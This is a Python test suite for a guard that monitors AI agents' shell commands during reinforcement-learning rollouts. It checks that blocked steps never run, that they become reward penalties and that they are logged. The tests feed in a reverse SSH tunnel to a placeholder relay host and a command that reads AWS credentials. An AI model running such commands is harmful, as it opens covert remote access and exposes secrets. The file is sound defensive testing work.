"""corral.rl: steps judged per episode, blocked steps never run, penalties as plain records."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import anyio
import pytest

from corral import Guard
from corral.rl import GuardedEnv, GuardedTool, PenaltyScale, RolloutGuard, guard_tool

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "rl_rollout.py"
TUNNEL = "ssh -N -R 8080:localhost:22 user@relay.invalid"


class RecordingEnv:
    """Records the actions that reached it; reward 1.0 per step."""

    def __init__(self) -> None:
        self.ran: list[str] = []

    def reset(self, *, seed: int | None = None) -> tuple[str, dict[str, Any]]:
        return "start", {"seed": seed}

    def step(self, command: str) -> tuple[str, float, bool, bool, dict[str, Any]]:
        self.ran.append(command)
        return f"ran {command}", 1.0, False, False, {"env": True}


@pytest.fixture(scope="module")
def judge_factory() -> Any:
    guard = Guard("default")
    return lambda: RolloutGuard(guard)


def exec_of(command: str) -> dict[str, Any]:
    return {"kind": "exec", "command": command}


def test_a_blocked_step_never_reaches_the_environment(judge_factory: Any) -> None:
    inner = RecordingEnv()
    env: GuardedEnv[str, str] = GuardedEnv(inner, judge_factory(), action_of=exec_of)
    _, info = env.reset(episode="ep-1", seed=3)
    assert info == {"seed": 3, "episode": "ep-1"}
    ok = env.step("ls -la")
    bad = env.step(TUNNEL)
    assert inner.ran == ["ls -la"]
    assert ok[1] == 1.0 and ok[4]["env"] is True and ok[4]["corral"]["executed"] is True
    observation, reward, terminated, _, info = bad
    assert "Corral blocked" in observation and "not executed" in observation
    record = info["corral"]
    assert reward == -record["penalty"] < 0 and terminated is False
    assert record["step"] == 1 and record["episode"] == "ep-1" and record["decision"] == "deny"
    assert any(rule.startswith("CR-TUN") for rule in record["rules"])
    assert "T1572" in record["attack"] and record["severity"] in ("high", "critical")


def test_episode_verdict_and_jsonl_export(judge_factory: Any, tmp_path: Path) -> None:
    judge = judge_factory()
    for command in ("ls", TUNNEL, "cat ~/.aws/credentials", "pwd"):
        judge.judge("rogue", exec_of(command))
    judge.judge("honest", exec_of("git status"))
    out = tmp_path / "records.jsonl"
    rogue = judge.finish("rogue", out)
    honest = judge.finish("honest", out)
    assert rogue.verdict == "blocked" and rogue.blocked_steps == [1, 2] and rogue.steps == 4
    assert rogue.total_penalty > 0 and "T1572" in rogue.attack
    assert honest.verdict == "clean" and honest.total_penalty == 0
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert [line["record"] for line in lines] == ["step"] * 4 + ["episode", "step", "episode"]
    assert [line["step"] for line in lines[:4]] == [0, 1, 2, 3]
    assert judge.episodes() == []


def test_each_episode_is_its_own_session(judge_factory: Any) -> None:
    seen: list[Any] = []

    class Spy(Guard):
        def decide(self, action: Any, *, line: int | None = None) -> Any:
            seen.append(action["session"])
            return super().decide(action, line=line)

    judge = RolloutGuard(Spy("default"), session_prefix="train-")
    judge.judge("a", exec_of("ls"))
    judge.judge("b", exec_of("ls"))
    judge.judge("a", exec_of("pwd"))
    assert seen == ["train-a", "train-b", "train-a"]
    assert [r.step for r in judge.records("a")] == [0, 1]


def test_an_internal_error_blocks_the_step() -> None:
    class Broken(Guard):
        def decide(self, action: Any, *, line: int | None = None) -> Any:
            raise RuntimeError("engine down")

    judgement = RolloutGuard(Broken("default")).judge("e", exec_of("ls"))
    assert not judgement.allowed and judgement.penalty > 0
    assert "engine down" in judgement.observation()


def test_penalty_scale_is_configurable(judge_factory: Any) -> None:
    scale = PenaltyScale(by_severity={"critical": 10.0, "high": 10.0}, ask_factor=0.0)
    judge = RolloutGuard(judge_factory().guard, scale=scale)
    assert judge.judge("e", exec_of(TUNNEL)).penalty == 10.0


def test_guard_tool_wraps_a_function(judge_factory: Any) -> None:
    ran: list[str] = []

    def run_shell(command: str) -> str:
        ran.append(command)
        return "done"

    tool = guard_tool(judge_factory(), run_shell)
    assert tool("e", command="echo hi")[0] == "done"
    result, penalty, record = tool("e", command=TUNNEL)
    assert ran == ["echo hi"] and penalty < 0 and "Corral blocked" in result
    assert record.step == 1


class ShellTool:
    """Shaped like verl's BaseTool: async execute(instance_id, parameters, **kw) -> 3-tuple."""

    name = "run_shell"

    def __init__(self) -> None:
        self.ran: list[str] = []

    async def execute(
        self, instance_id: str, parameters: dict[str, Any], **kwargs: Any
    ) -> tuple[Any, float, dict[str, Any]]:
        self.ran.append(parameters["command"])
        return {"text": "ok"}, 0.25, {"latency": 1}

    async def release(self, instance_id: str) -> str:
        return f"released {instance_id}"


class AgentData:
    request_id = "rollout-42"


def test_verl_style_tool_gets_the_penalty_as_its_reward(judge_factory: Any) -> None:
    inner = ShellTool()
    judge = judge_factory()
    tool = GuardedTool(inner, judge)

    async def main() -> list[Any]:
        ok = await tool.execute("i-1", {"command": "ls"}, agent_data=AgentData())
        bad = await tool.execute("i-2", {"command": TUNNEL}, agent_data=AgentData())
        return [ok, bad, await tool.release("i-2")]

    ok, bad, released = anyio.run(main)
    assert inner.ran == ["ls"] and released == "released i-2"
    assert ok[1] == 0.25 and ok[2]["latency"] == 1 and ok[2]["corral"]["executed"]
    response, reward, metrics = bad
    assert "Corral blocked" in response.text and reward == -metrics["corral"]["penalty"] < 0
    assert [r.step for r in judge.records("rollout-42")] == [0, 1]


def test_example_shows_penalties_in_rewards(tmp_path: Path) -> None:
    out = tmp_path / "penalties.jsonl"
    proc = subprocess.run(
        [sys.executable, str(EXAMPLE), str(out)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert "BLOCKED reward -" in proc.stdout and "verdict blocked" in proc.stdout
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert any(r["record"] == "step" and r["penalty"] > 0 for r in records)
